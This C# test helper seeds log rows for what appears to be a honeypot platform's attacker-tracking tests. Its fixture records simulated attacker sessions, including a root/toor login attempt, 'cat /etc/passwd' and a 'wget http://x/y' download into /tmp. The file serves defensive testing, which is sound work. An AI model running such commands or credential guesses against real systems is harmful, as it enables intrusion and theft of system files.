using Decnet.Core.Events;
using Decnet.Core.Storage;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Decnet.Tests.Attackers;

/// <summary>Writes <c>logs</c> rows directly, as the ingester would have committed them.</summary>
internal static class AttackerSeed
{
    public static readonly DateTime T0 = new(2026, 1, 1, 12, 0, 0, DateTimeKind.Utc);

    public static LogEntry Log(int second, string decky, string service, string eventType, string? ip, string fields = "{}") => new()
    {
        Timestamp = T0.AddSeconds(second),
        Decky = decky,
        Service = service,
        EventType = eventType,
        AttackerIp = ip,
        RawLine = $"<13>1 {T0.AddSeconds(second):O} {decky} {service} - {eventType} -",
        Fields = fields,
    };

    public static async Task AddAsync(IServiceProvider services, params LogEntry[] rows)
    {
        var factory = services.GetRequiredService<IDbContextFactory<DecnetDbContext>>();
        await using var db = await factory.CreateDbContextAsync();
        db.Logs.AddRange(rows);
        await db.SaveChangesAsync();
    }

    /// <summary>One IP crossing two deckies over ssh and http, running commands; plus a second IP and an address-less row.</summary>
    public static LogEntry[] Scenario() =>
    [
        Log(0, "decky-01", "ssh", "connect", "198.51.100.7", """{"client_version":"SSH-2.0-libssh_0.9.6","hassh":"abc123"}"""),
        Log(2, "decky-01", "ssh", "auth_attempt", "198.51.100.7", """{"username":"root","password":"toor"}"""),
        Log(5, "decky-01", "ssh", "command", "198.51.100.7", """{"cmd":"uname -a","cwd":"/root","user":"root"}"""),
        Log(9, "decky-01", "ssh", "command", "198.51.100.7", """{"cmd":"cat /etc/passwd","cwd":"/root","user":"root"}"""),
        Log(20, "decky-02", "http", "request", "198.51.100.7", """{"method":"GET","path":"/","user_agent":"curl/8.5.0"}"""),
        Log(21, "decky-02", "http", "request", "203.0.113.9", """{"method":"GET","path":"/admin","user_agent":"python-requests/2.31"}"""),
        Log(22, "decky-02", "ftp", "connect", null),
        Log(30, "decky-02", "ssh", "command", "198.51.100.7", """{"cmd":"wget http://x/y","cwd":"/tmp","user":"root"}"""),
        Log(40, "decky-01", "ssh", "file_captured", "198.51.100.7", """{"stored_as":"a.bin","sha256":"00","orig_path":"/tmp/y"}"""),
    ];
}
